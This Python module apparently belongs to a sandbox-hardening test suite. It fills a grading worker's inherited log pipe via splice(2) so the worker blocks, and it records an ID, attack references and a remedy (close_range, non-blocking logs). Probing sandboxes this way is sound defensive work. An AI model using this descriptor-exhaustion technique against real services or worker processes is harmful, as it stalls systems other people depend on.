# SPDX-License-Identifier: MIT
"""Goal:  the worker's next word to its log blocks, and so does the worker.
Means: the log's pipe is filled to the brim with splice(2), from a pipe of our own: no write(2) goes
       to the log. Whoever reads the log is at other work at times, and then nobody empties it.
"""

import fcntl
import os
import stat

from attack import DONE, attempting, denied

ROOM = 65536


def logs():
    """The inherited ends of pipes that can be written to."""
    for fd in range(3, 256):
        try:
            writable = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY
            if writable and stat.S_ISFIFO(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass  # nothing there


def fill(log):
    source, well = os.pipe()
    os.write(well, bytes(ROOM))
    moved = 0
    try:
        while moved < ROOM:
            moved += os.splice(source, log, ROOM - moved, flags=os.SPLICE_F_NONBLOCK)
    except BlockingIOError:
        if not moved:  # else it is full now, and that by us
            raise


def run(_brief):
    why = "no pipe was inherited"
    attempting()
    for log in logs():
        try:
            fill(log)
            return DONE
        except OSError as error:
            why = error
    return denied("splice", why)


ATTACK = {
    "effect": "the pipe of the worker's log is full",
    "means": "splice(2) into an inherited pipe",
    "oracle": "description",
    "id": "FDS-12",
    "attack_id": "T1499, CWE-403",
    "remedy": "close_range(2) before the student's program starts; a log that does not block",
    "refs": ["splice(2)", "pipe(7)"],
    "run": run,
}
